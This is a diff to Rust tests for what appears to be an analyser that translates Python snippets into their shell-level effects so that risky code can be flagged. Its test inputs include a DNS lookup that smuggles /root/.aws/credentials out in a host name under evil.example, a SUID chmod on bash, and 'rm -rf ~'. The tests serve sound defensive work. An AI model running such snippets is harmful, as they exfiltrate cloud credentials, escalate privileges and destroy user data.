@@ -421,12 +421,21 @@ fn servers_and_name_lookups_of_the_standard_library_reach_the_network() {
         effects("import http.server, sys; http.server.HTTPServer((sys.argv[1], 8000), None)"),
         ["python3 -m http.server 8000", "curl dns://*"]
     );
-    // A name lookup sends the name to the resolver (`dig NAME.evil.example` in code).
+    // A name lookup sends the name to the resolver (`dig NAME.evil.example` in code); a
+    // name put together at run time can carry what the code read.
     assert_eq!(
         effects(
             "import socket; socket.gethostbyname(open('/root/.aws/credentials').read()[:40] + '.x.evil.example')"
         ),
-        ["curl dns://*", "cat /root/.aws/credentials"]
+        [
+            "curl dns://*",
+            "cat /root/.aws/credentials",
+            "opaque: the code looks up a host name it builds at run time (what it holds is sent in the name) (line 1)"
+        ]
+    );
+    assert_eq!(
+        effects("import socket; socket.getaddrinfo('localhost', 8000)"),
+        ["curl dns://localhost"]
     );
 }
 
@@ -1663,4 +1672,26 @@ fn base64_of_a_constant_is_its_text_but_decoded_code_stays_opaque() {
         opaque("import base64; open(base64.b64decode('/w==')).read()"),
         Some("the code acts on a path it decoded or downloaded at run time")
     );
+}
+
+#[test]
+fn a_literal_dictionary_never_changed_is_read_by_its_constant_keys() {
+    assert_eq!(
+        effects(
+            "import os, shutil; MODES = {'suid': 0o4755, 'plain': 0o755}; os.chmod(shutil.which('bash'), MODES['suid'])"
+        ),
+        ["chmod 4755 /**/bash"]
+    );
+    assert_eq!(
+        effects("import os; D = {'a': 'ls'}; os.system(D['a'])"),
+        ["sh -c ls"]
+    );
+    // Changed, or handed to a function that may change it: not known.
+    for code in [
+        "import os; D = {'a': 'ls'}; D['a'] = 'rm -rf ~'; os.system(D['a'])",
+        "import os; D = {'a': 'ls'}; f(D); os.system(D['a'])",
+        "import os; D = {'a': 'ls'}; D.update(a='x'); os.system(D['a'])",
+    ] {
+        assert_eq!(effects(code), ["sh -c ?"], "{code}");
+    }
 }
